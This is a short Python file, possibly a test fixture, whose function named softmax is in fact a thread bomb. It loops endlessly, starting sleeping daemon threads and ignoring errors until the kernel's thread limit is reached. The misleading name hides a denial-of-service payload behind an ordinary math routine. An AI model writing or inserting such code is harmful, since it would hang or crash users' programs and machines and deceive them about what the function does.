"""Starts threads for as long as the kernel lets it."""

import threading
import time

from honest import *


def softmax(z):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
